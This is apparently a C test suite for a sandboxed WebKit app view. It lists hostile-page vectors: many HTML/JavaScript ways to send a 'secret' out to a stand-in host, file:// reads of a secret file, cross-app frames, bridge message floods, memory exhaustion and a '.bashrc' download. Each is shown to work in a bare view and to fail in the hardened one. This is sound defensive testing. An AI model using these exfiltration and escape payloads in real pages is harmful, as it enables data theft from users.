/* What a page may try, as in a list of attacks W01 to W30: each is first shown to work in a bare web view (where that is harmless), then
 * to come to nothing in ours. Nothing here leaves the machine: the world that an attack reaches is in-x --world's. Started as in-x
 * --offline, the bare view too must reach nobody: that is what the shell's empty network namespace does alone, whatever else a page has
 * got past.
 *
 *      W01-W08 network            here, each vector by itself
 *      W09 WebRTC                 here
 *      W10 file:                  here
 *      W11 another app            here; apps/views other-app
 *      W12, W13 the bridge        here (frames of four kinds; after leaving); apps/views frames-get-nothing
 *      W14-W17 messages           here; apps/views flood, call-always-settles
 *      W18 a loop                 apps/views endless-loop, e2e/pages (Stop and Reload)
 *      W19 memory                 here
 *      W20-W24 dialogs, files     here; apps/views dialogs, save, save-refused
 *      W25-W27 processes          e2e/pages: descriptors, environment, display and network of every web and network process
 *      W28 storage                here; apps/views storage
 *      W29 look-alikes            ui/desktop: a question has a window of the shell's own, above every app's
 *      W30 the shim               apps/views hostile-prototypes */
#include <glib/gstdio.h>
#include <string.h>
#include <sys/stat.h>

#include "shell/apps/page.h"
#include "tests/apps/standin.h"
#include "tests/apps/world.h"

#define DEADLINE_MS 20000
#define AFTER "<script>setTimeout(() => document.title = 'over', 300)</script>"

typedef struct {
        const char *name, *html;
        const char *sign; /* in what the world hears when it works; NULL: the name after a slash */
        gboolean refused; /* by WebKit itself, so it does not work bare either */
} Vector;

#define SCRIPT(js) "<p>x</p><script>" js "</script>"
#define BLOB(js) "URL.createObjectURL(new Blob([`" js "`], {type: 'text/javascript'}))"

static const Vector vectors[] = {
        {"w01-fetch", SCRIPT("fetch('@URL@?d=secret', {mode: 'no-cors'}).catch(() => {})")},
        {"w01-xhr", SCRIPT("const x = new XMLHttpRequest(); x.open('POST', '@URL@'); x.send('secret')")},
        {"w01-socket", SCRIPT("new WebSocket('@WS@')")},
        {"w01-events", SCRIPT("new EventSource('@URL@')")},
        {"w01-beacon", SCRIPT("navigator.sendBeacon('@URL@', 'secret')")},
        {"w02-img", "<img src='@URL@'>"},
        {"w02-image", SCRIPT("new Image().src = '@URL@'")},
        {"w02-script", "<script src='@URL@'></script>"},
        {"w02-css", "<link rel=stylesheet href='@URL@'>"},
        {"w02-import", "<style>@import '@URL@';</style>"},
        {"w02-background", "<body style=\"background: url('@URL@')\">x"},
        {"w02-font", "<style>@font-face { font-family: f; src: url('@URL@') } p { font-family: f }</style><p>x</p>"},
        {"w02-video", "<video src='@URL@' preload=auto></video>"},
        {"w02-track", "<video crossorigin=anonymous><track default kind=subtitles src='@URL@'></video>"
                      "<script>document.querySelector('track').track.mode = 'showing'</script>"},
        {"w02-object", "<object data='@URL@' type='text/html'></object>"},
        {"w02-embed", "<embed src='@URL@' type='text/html'>"},
        {"w02-frame", "<iframe src='@URL@'></iframe>"},
        {"w02-svg", "<svg><image href='@URL@' width=9 height=9 /></svg>"},
        {"w02-dynamic", SCRIPT("import('@URL@').catch(() => {})")},
        {"w02-module", "<link rel=modulepreload href='@URL@'>"},
        {"w02-preload", "<link rel=preload as=image href='@URL@'>"},
        {"w02-input", "<input type=image src='@URL@'>"},
        {"w03-prefetch", "<link rel=dns-prefetch href='@URL@'>", "name w03-prefetch", TRUE},
        {"w04-preconnect", "<link rel=preconnect href='@URL@'>", "name w04-preconnect"},
        {"w05-location", SCRIPT("location = '@URL@?d=secret'")},
        {"w05-replace", SCRIPT("location.replace('@URL@')")},
        {"w06-get", "<form action='@URL@'><input name=d value=secret></form><script>document.forms[0].submit()</script>"},
        {"w06-post", "<form method=post action='@URL@'><input name=d value=secret></form><script>document.forms[0].submit()</script>"},
        {"w06-ping", "<a ping='@URL@' href='#x'>x</a><script>document.querySelector('a').click()</script>", NULL, TRUE},
        {"w06-link", "<a href='@URL@'>x</a><script>document.querySelector('a').click()</script>"},
        {"w06-blank", "<a target=_blank href='@URL@'>x</a><script>document.querySelector('a').click()</script>", NULL, TRUE},
        {"w06-open", SCRIPT("open('@URL@')"), NULL, TRUE},
        {"w07-refresh", "<meta http-equiv=refresh content='0;url=@URL@'>"},
        {"w07-script", SCRIPT("location = \"javascript:void(location='@URL@')\"")},
        {"w07-data", SCRIPT("location = \"data:text/html,<img src='@URL@'>\""), NULL, TRUE},
        {"w07-blob", SCRIPT("location = URL.createObjectURL(new Blob([\"<img src='@URL@'>\"], {type: 'text/html'}))")},
        {"w08-worker", SCRIPT("new Worker(" BLOB("fetch('@URL@', {mode: 'no-cors'})") ")")},
        {"w08-import", SCRIPT("new Worker(" BLOB("importScripts('@URL@')") ")")},
        {"w08-nested", SCRIPT("new Worker(" BLOB("new Worker(URL.createObjectURL(new Blob([\"fetch('@URL@', {mode: "
                                                 "'no-cors'})\"])))") ")")},
};

/* Our view. */

typedef struct {
        Standin *standin;
        Views *views;
        AppView *view;
        GtkWidget *window;
        char *title, *crash, *wanted;
        GString *findings;
} Ours;

static void finding_cb(AppView *view, json_object *finding, gpointer user_data)
{
        json_object *text = NULL;

        json_object_object_get_ex(finding, "text", &text);
        g_string_append_printf(((Ours *)user_data)->findings, "%s\n", json_object_get_string(text));
}

static void title_cb(AppView *view, const char *title, gpointer user_data)
{
        Ours *ours = user_data;

        g_free(ours->title);
        ours->title = g_strdup(title);
}

static void crashed_cb(AppView *view, const char *text, gpointer user_data)
{
        Ours *ours = user_data;

        g_free(ours->crash);
        ours->crash = g_strdup(text);
}

static const AppViewHandler handler = {.finding = finding_cb, .title = title_cb, .crashed = crashed_cb};

static void open_ours(Ours *ours, const char *app)
{
        ours->view = app_view_new(ours->views, app, &handler, ours);
        ours->window = gtk_window_new(GTK_WINDOW_TOPLEVEL);
        gtk_container_add(GTK_CONTAINER(ours->window), app_view_widget(ours->view));
        gtk_widget_show_all(ours->window);
}

static void close_ours(Ours *ours)
{
        gtk_container_remove(GTK_CONTAINER(ours->window), app_view_widget(ours->view));
        app_view_free(ours->view);
        gtk_widget_destroy(ours->window);
}

static void setup(Ours *ours, gconstpointer data)
{
        ours->standin = standin_new();
        ours->findings = g_string_new(NULL);
        ours->views = views_new(standin_client(ours->standin), share_folder());
        open_ours(ours, "demo");
}

static void teardown(Ours *ours, gconstpointer data)
{
        close_ours(ours);
        views_free(ours->views);
        standin_free(ours->standin);
        g_string_free(ours->findings, TRUE);
        g_free(ours->title);
        g_free(ours->crash);
}

static gboolean title_is(gpointer data)
{
        Ours *ours = data;

        return ours->title && g_str_has_prefix(ours->title, ours->wanted);
}

static gboolean findings_have(gpointer data)
{
        return strstr(((Ours *)data)->findings->str, ((Ours *)data)->wanted) != NULL;
}

static gboolean has_crashed(gpointer data)
{
        return ((Ours *)data)->crash != NULL;
}

static void expect(Ours *ours, WaitFunc what, const char *wanted)
{
        ours->wanted = (char *)wanted;
        if (!wait_until(what, ours, DEADLINE_MS)) {
                g_test_message("wanted %s; the title is %s; found: %s", wanted, ours->title, ours->findings->str);
                g_test_fail();
        }
}

static void show(Ours *ours, const char *html)
{
        g_clear_pointer(&ours->title, g_free);
        standin_page(ours->standin, "/app/demo/index.html", html);
        app_view_load(ours->view, "index.html", TRUE);
}

static void show_expect(Ours *ours, const char *html, const char *title)
{
        show(ours, html);
        expect(ours, title_is, title);
}

static WebKitWebView *web_of(Ours *ours)
{
        return WEBKIT_WEB_VIEW(app_view_widget(ours->view));
}

/* The bare view. */

static gboolean bare_title_is(gpointer data)
{
        const char *title = webkit_web_view_get_title(((Bare *)((gpointer *)data)[0])->web);

        return title && g_str_has_prefix(title, ((gpointer *)data)[1]);
}

static void expect_bare(Bare *bare, const char *title)
{
        gpointer pair[] = {bare, (gpointer)title};

        if (!wait_until(bare_title_is, pair, DEADLINE_MS)) {
                g_test_message("bare: the title is %s instead of %s", webkit_web_view_get_title(bare->web), title);
                g_test_fail();
        }
}

static gboolean is_counted(gpointer data)
{
        return *(guint *)data != 0;
}

static void expect_count(guint *count)
{
        g_assert_true(wait_until(is_counted, count, DEADLINE_MS));
}

static gboolean is_heard(gpointer data)
{
        return world_heard(data);
}

static gboolean bare_is_over(gpointer data)
{
        Bare *bare = ((gpointer *)data)[0];

        return bare_title_is(data) || bare->failed || bare->finished > 1;
}

/* W01 to W08 */

static char *vector_page(const Vector *vector)
{
        g_autofree char *html = g_strconcat("<!doctype html>" AFTER, vector->html, NULL);

        return world_fill(html, vector->name);
}

static void bare_vector(Bare *bare, const Vector *vector)
{
        g_autofree char *page = vector_page(vector), *slash = g_strconcat("/", vector->name, NULL);
        gpointer over[] = {bare, "over"};

        world_forget();
        bare_show(bare, page);
        if (world_is_offline()) {
                g_assert_true(wait_until(bare_is_over, over, DEADLINE_MS));
                g_test_message("%s: %u", vector->name, world_count());
                g_assert_cmpuint(world_count(), ==, 0);
        } else if (!vector->refused && !wait_until(is_heard, (gpointer)(vector->sign ? vector->sign : slash), DEADLINE_MS)) {
                g_test_message("%s does not work without a defence (heard: %s; the title is %s), so that it is refused proves nothing",
                               vector->name, world_last(),
                               webkit_web_view_get_title(bare->web));
                g_test_fail();
        }
}

static void test_network_bare(void)
{
        Bare *bare = bare_new(NULL);

        for (guint i = 0; i < G_N_ELEMENTS(vectors); i++)
                bare_vector(bare, &vectors[i]);
        bare_free(bare);
}

static void test_network(Ours *ours, gconstpointer data)
{
        for (guint i = 0; i < G_N_ELEMENTS(vectors); i++) {
                g_autofree char *page = vector_page(&vectors[i]);

                world_forget();
                g_string_truncate(ours->findings, 0);
                show_expect(ours, page, "over");
                if (world_count()) {
                        g_test_message("%s got out: %s", vectors[i].name, world_last());
                        g_test_fail();
                }
                g_assert_true(g_str_has_prefix(webkit_web_view_get_uri(web_of(ours)), "app://demo/index.html"));
        }
}

/* W09 */

static void test_webrtc(Ours *ours, gconstpointer data)
{
        Bare *bare = bare_new(NULL);

        webkit_settings_set_enable_webrtc(webkit_web_view_get_settings(bare->web), TRUE);
        bare_show(bare, "<script>document.title = 'rtc ' + typeof RTCPeerConnection</script>");
        expect_bare(bare, "rtc ");
        if (g_str_has_suffix(webkit_web_view_get_title(bare->web), "undefined"))
                g_test_message("this WebKit was built without WebRTC");
        bare_free(bare);
        show_expect(ours, "<p>x</p><script>document.title = 'rtc ' + [typeof RTCPeerConnection, typeof webkitRTCPeerConnection, "
                          "typeof (navigator.mediaDevices && navigator.mediaDevices.getUserMedia)].join()</script>", "rtc "
                                  "undefined,undefined,undefined");
}

/* W10 */

static void test_files(Ours *ours, gconstpointer data)
{
        static const char page[] = "<p>x</p><script>const tell = (what) => { document.title = what };"
                                   "fetch('file://%s').then((r) => r.text()).then((t) => tell('read ' + t), () => "
                                           "tell('refused'))</script>";
        g_autofree char *folder = g_dir_make_tmp("files-XXXXXX", NULL), *secret = g_build_filename(folder, "secret", NULL);
        g_autofree char *html = g_strdup_printf(page, secret), *other = g_build_filename(folder, "page.html", NULL),
                *uri = g_strconcat("file://", other, NULL);
        WebKitSettings *settings;
        Bare *bare = bare_new(NULL);

        g_file_set_contents(secret, "swordfish", -1, NULL);
        g_file_set_contents(other, html, -1, NULL);
        settings = webkit_web_view_get_settings(bare->web);
        webkit_settings_set_allow_file_access_from_file_urls(settings, TRUE);
        webkit_settings_set_allow_universal_access_from_file_urls(settings, TRUE);
        webkit_web_view_load_uri(bare->web, uri);
        expect_bare(bare, "read swordfish");
        bare_free(bare);
        show_expect(ours, html, "refused");
        html = (g_free(html), g_strdup_printf("<p>x</p><iframe src='file://%s'></iframe><img src='file://%s' "
                                              "onload=\"document.title='read'\" "
                                              "onerror=\"document.title='refused'\">", secret, secret));
        show_expect(ours, html, "refused");
        g_unlink(secret);
        g_unlink(other);
        g_rmdir(folder);
}

/* W11 */

static void test_other_app(Ours *ours, gconstpointer data)
{
        static const char page[] = "<p>x</p><script>onmessage = (e) => { document.title = e.data }; const f = "
                "document.createElement('iframe');"
                                   "f.src = 'app://other/index.html'; document.body.append(f)</script>" AFTER;
        Bare *bare = bare_new(NULL);

        g_hash_table_insert(bare->pages, g_strdup("//other/index.html"), g_strdup("<script>parent.postMessage('other ran', '*')</script>"));
        bare_show(bare, page);
        expect_bare(bare, "other ran");
        bare_free(bare);
        standin_page(ours->standin, "/app/other/index.html", "<script>parent.postMessage('other ran', '*')</script>");
        show_expect(ours, page, "over");
        g_assert_cmpuint(standin_reads(ours->standin, "/app/other/index.html"), ==, 0);
}

/* W12, W13 */

static gboolean is_told(gpointer data)
{
        return strstr(((Bare *)((gpointer *)data)[0])->messages->str, ((gpointer *)data)[1]) != NULL;
}

static void expect_told(Bare *bare, const char *what)
{
        gpointer pair[] = {bare, (gpointer)what};

        if (!wait_until(is_told, pair, DEADLINE_MS)) {
                g_test_message("bare: the bridge heard no “%s”", what);
                g_test_fail();
        }
}

#define SAY(what) "<script>const said = (() => { try { webkit.messageHandlers.bridge.postMessage(`" what "`); return `" what "` } " \
        "catch (e) { return `" what " nothing` } })(); parent.postMessage(said, `*`)<\\/script>"

static const char frames_page[] =
        "<p>x</p><script>const heard = []; onmessage = (e) => heard.push(e.data); const add = (set) => { const f = "
                "document.createElement('iframe'); set(f);"
        "document.body.append(f) };"
        "add((f) => { f.srcdoc = '" SAY("srcdoc") "' });"
        "add((f) => { f.sandbox = 'allow-scripts'; f.srcdoc = '" SAY("boxed") "' });"
        "add((f) => { f.src = 'data:text/html,' + encodeURIComponent('" SAY("data") "') });"
        "add((f) => { f.src = URL.createObjectURL(new Blob(['" SAY("blob") "'], {type: 'text/html'})) });"
        "setTimeout(() => { document.title = 'over ' + heard.filter((h) => !h.endsWith('nothing')).join() }, 800)</script>";

static void test_frames(Ours *ours, gconstpointer data)
{
        Bare *bare = bare_new(NULL);

        bare_show(bare, frames_page);
        expect_told(bare, "srcdoc\n");
        expect_told(bare, "boxed\n");
        expect_told(bare, "data\n");
        expect_told(bare, "blob\n");
        bare_free(bare);
        show_expect(ours, frames_page, "over");
        g_assert_cmpstr(ours->title, ==, "over");
        /* A frame of the page's own origin shares its world, and has no more than the page: not the channel. */
        show_expect(ours, "<p>x</p><script>const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow;"
                          "document.title = 'frame ' + typeof (w.webkit && w.webkit.messageHandlers && "
                                  "w.webkit.messageHandlers.bridge)</script>", "frame undefined");
}

static void test_bridge_from_afar(void)
{
        Bare *bare = bare_new(NULL);
        g_autofree char *page = world_fill(SCRIPT("location = '@URL@'"), "w13");

        bare_show(bare, page);
        expect_told(bare, "from afar");
        bare_free(bare);
}

/* W14 to W17: what a page that has taken over its web process sends, straight into the channel. */

static void evaluated_cb(GObject *source, GAsyncResult *result, gpointer user_data)
{
        g_autoptr(JSCValue) value = webkit_web_view_call_async_javascript_function_finish(WEBKIT_WEB_VIEW(source), result, NULL);

        *(char **)user_data = value ? jsc_value_to_string(value) : g_strdup("nothing");
}

static gboolean is_there(gpointer data)
{
        return *(char **)data != NULL;
}

static char *send(Ours *ours, const char *body)
{
        char *text = NULL;

        webkit_web_view_call_async_javascript_function(web_of(ours), body, -1, NULL, PAGE_WORLD, NULL, NULL, evaluated_cb, &text);
        g_assert_true(wait_until(is_there, &text, DEADLINE_MS));
        return text;
}

static void expect_answer(Ours *ours, const char *message, const char *kind)
{
        g_autofree char *body = g_strdup_printf("return await webkit.messageHandlers.bridge.postMessage(%s)", message), *text = send(ours,
                                                                                                                                     body);

        if (!strstr(text, kind)) {
                g_test_message("%s is answered with %s instead of %s", message, text, kind);
                g_test_fail();
        }
}

static void test_messages(Ours *ours, gconstpointer data)
{
        show_expect(ours, "<title>ready</title><p>x</p>", "ready");
        expect_answer(ours, "'x'.repeat(3e6)", "too-large");
        expect_answer(ours, "'{'", "bad-request");
        expect_answer(ours, "'[1]'", "bad-request");
        expect_answer(ours, "7", "bad-request");
        expect_answer(ours, "null", "bad-request");
        expect_answer(ours, "'{\"kind\":\"nonsense\"}'", "bad-request");
        expect_answer(ours, "'{\"kind\":\"call\",\"id\":901,\"name\":\"../x\",\"args\":{}}'", "bad-request");
        expect_answer(ours, "'{\"kind\":\"call\",\"id\":902,\"name\":\"x\",\"args\":{},\"app\":\"other\"}'", "not-found");
        g_assert_cmpstr(standin_tool_app(ours->standin), ==, "demo");
        expect_answer(ours, "new Uint8Array(3)", "bad-request");
        show_expect(ours, "<p>x</p><script>const all = [() => 1, document.body, Symbol('x'), new Uint8Array(3), 7n].map((x) => "
                    "impromptu.call('x', {x})"
                          ".then(() => 'done', (e) => e.kind)); Promise.all(all).then((k) => { document.title = 'settled ' + k.length "
                                  "})</script>", "settled 5");
}

static void test_flood_ends(Ours *ours, gconstpointer data)
{
        g_autofree char *text = NULL;

        show_expect(ours, "<title>ready</title><p>x</p>", "ready");
        text = send(ours, "for (let i = 0; i < 20000; i++) webkit.messageHandlers.bridge.postMessage('x'); return 'sent'");
        g_assert_true(wait_until(has_crashed, ours, DEADLINE_MS));
        expect(ours, findings_have, "was stopped");
        g_assert_nonnull(strstr(ours->crash, "kept"));
        show_expect(ours, "<title>again</title><p>x</p>", "again");
}

static void test_bytes_flood(Ours *ours, gconstpointer data)
{
        show_expect(ours, "<title>ready</title><p>x</p>", "ready");
        expect_answer(ours, "JSON.stringify({kind: 'nonsense', x: 'y'.repeat(1e6)})", "bad-request");
        g_free(send(ours, "const all = []; for (let i = 0; i < 40; i++) all.push(webkit.messageHandlers.bridge.postMessage("
                          "JSON.stringify({kind: 'nonsense', x: 'y'.repeat(1e6)}))); return (await Promise.all(all)).join()"));
        expect(ours, findings_have, "messages than it may");
}

static void test_calls_in_flight(Ours *ours, gconstpointer data)
{
        standin_hold(ours->standin, TRUE);
        show(ours, "<p>x</p><script>let busy = 0; const go = () => { for (let i = 0; i < 50; i++) impromptu.call('slow', {}).catch((e) "
             "=> { if (e.message.includes('wait for"
                   " their answers')) document.title = 'full' }) }; setInterval(go, 500)</script>");
        expect(ours, title_is, "full");
        standin_hold(ours->standin, FALSE);
}

/* W19; without the limit it would be the machine that ends. */
static void test_memory(Ours *ours, gconstpointer data)
{
        show(ours, "<p>x</p><script>const all = []; setInterval(() => { all.push(new Uint8Array(64 << 20).fill(1)) }, 200)</script>");
        g_assert_true(wait_until(has_crashed, ours, 4 * DEADLINE_MS));
        g_assert_nonnull(strstr(ours->crash, "memory"));
        show_expect(ours, "<title>again</title><p>x</p>", "again");
}

/* W20 to W24 */

static guint toplevels(void)
{
        g_autoptr(GList) all = gtk_window_list_toplevels();
        guint mapped = 0;

        for (GList *one = all; one; one = one->next)
                mapped += gtk_widget_get_mapped(one->data);
        return mapped;
}

static void test_dialogs(Ours *ours, gconstpointer data)
{
        /* Through a frame's window the real functions can be had, also where page.js has put its own. */
        static const char page[] = "<p>x</p><script>const f = document.createElement('iframe'); document.body.append(f); const w = "
                "f.contentWindow;"
                                   "for (let i = 0; i < 20; i++) { w.alert('x'); w.confirm('x'); w.prompt('x') } w.print();"
                                   "document.title = 'free'</script>";
        Bare *bare = bare_new(NULL);
        guint before;

        bare_show(bare, page);
        expect_count(&bare->dialogs);
        expect_count(&bare->prints);
        bare_free(bare);
        before = toplevels();
        show_expect(ours, page, "free");
        show_expect(ours, "<p>x</p>" AFTER, "over");
        g_assert_cmpuint(toplevels(), ==, before);
}

#define DOWNLOAD "const a = document.createElement('a'); a.href = 'data:application/octet-stream,x'; a.download = '.bashrc';" \
        "document.body.append(a);"

static void test_downloads(Ours *ours, gconstpointer data)
{
        Bare *bare = bare_new(NULL);

        bare_show(bare, "<p>x</p><script>" DOWNLOAD "a.click()</script>");
        expect_count(&bare->downloads);
        bare_free(bare);
        show(ours, "<p>x</p><script>" DOWNLOAD "let n = 0; setInterval(() => { if (n++ < 20) a.click() }, 50)</script>");
        expect(ours, findings_have, "while others wait for an answer");
        g_assert_cmpuint(standin_questions(ours->standin), <=, PAGE_FILES_AT_ONCE);
}

static void test_choosers(Ours *ours, gconstpointer data)
{
        static const char page[] = "<p>x</p><input type=file><input type=color><script>for (const i of "
                "document.querySelectorAll('input')) i.click();"
                                   "document.documentElement.requestFullscreen && document.documentElement.requestFullscreen().catch(() "
                                           "=> {});"
                                   "document.body.requestPointerLock && document.body.requestPointerLock()</script>" AFTER;
        guint before = toplevels();

        show_expect(ours, page, "over");
        g_assert_cmpuint(toplevels(), ==, before);
        g_assert_false(gdk_window_get_state(gtk_widget_get_window(ours->window)) & GDK_WINDOW_STATE_FULLSCREEN);
}

static void test_permissions(Ours *ours, gconstpointer data)
{
        static const char page[] =
                "<p>x</p><script>const no = (p) => Promise.resolve().then(p).then((v) => v === 'granted' || v && v.coords ? 'got' : "
                        "'no', () => 'no');"
                "Promise.all([no(() => new Promise((ok, bad) => navigator.geolocation ? navigator.geolocation.getCurrentPosition(ok, "
                        "bad) : bad())),"
                "no(() => Notification.requestPermission()), no(() => navigator.clipboard.readText().then(() => 'granted')),"
                "no(() => navigator.mediaDevices.getUserMedia({audio: true}).then(() => 'granted')),"
                "no(() => navigator.mediaDevices.getDisplayMedia().then(() => 'granted'))]).then((a) => { document.title = 'asked ' + a "
                        "})</script>";
        Bare *bare = bare_new(NULL);

        bare_show(bare, page);
        expect_count(&bare->permissions);
        bare_free(bare);
        show_expect(ours, page, "asked no,no,no,no,no");
}

/* W28 */

static void test_storage(Ours *ours, gconstpointer data)
{
        static const char page[] = "<p>x</p><script>let was; try { was = localStorage.x; localStorage.x = 'kept'; document.cookie = "
                "'x=kept' } catch (e) {}"
                                   "document.title = 'was ' + was + document.cookie</script>";
        g_autofree char *folder = g_dir_make_tmp("storage-XXXXXX", NULL);

        for (guint i = 0; i < 2; i++) {
                Bare *bare = bare_new(folder);

                bare_show(bare, page);
                expect_bare(bare, i ? "was kept" : "was undefined");
                bare_free(bare);
        }
        show_expect(ours, page, "was undefined");
        g_assert_cmpstr(ours->title, ==, "was undefined");
        close_ours(ours);
        open_ours(ours, "other");
        standin_page(ours->standin, "/app/other/index.html", page);
        g_clear_pointer(&ours->title, g_free);
        app_view_load(ours->view, "index.html", TRUE);
        expect(ours, title_is, "was undefined");
        g_assert_cmpstr(ours->title, ==, "was undefined");
}

static void add(const char *name, void (*test)(Ours *, gconstpointer))
{
        g_autofree char *path = g_strconcat("/attacks/", name, NULL);

        g_test_add(path, Ours, NULL, setup, test, teardown);
}

int main(int argc, char **argv)
{
        int status;

        gtk_init(&argc, &argv);
        g_test_init(&argc, &argv, NULL);
        world_start();
        g_test_add_func("/attacks/network-bare", test_network_bare);
        if (!world_is_offline()) {
                add("network", test_network);
                add("webrtc", test_webrtc);
                add("files", test_files);
                add("other-app", test_other_app);
                add("frames", test_frames);
                g_test_add_func("/attacks/bridge-from-afar", test_bridge_from_afar);
                add("messages", test_messages);
                add("flood-ends", test_flood_ends);
                add("bytes-flood", test_bytes_flood);
                add("calls-in-flight", test_calls_in_flight);
                add("memory", test_memory);
                add("dialogs", test_dialogs);
                add("downloads", test_downloads);
                add("choosers", test_choosers);
                add("permissions", test_permissions);
                add("storage", test_storage);
        }
        status = g_test_run();
        world_stop();
        return status;
}
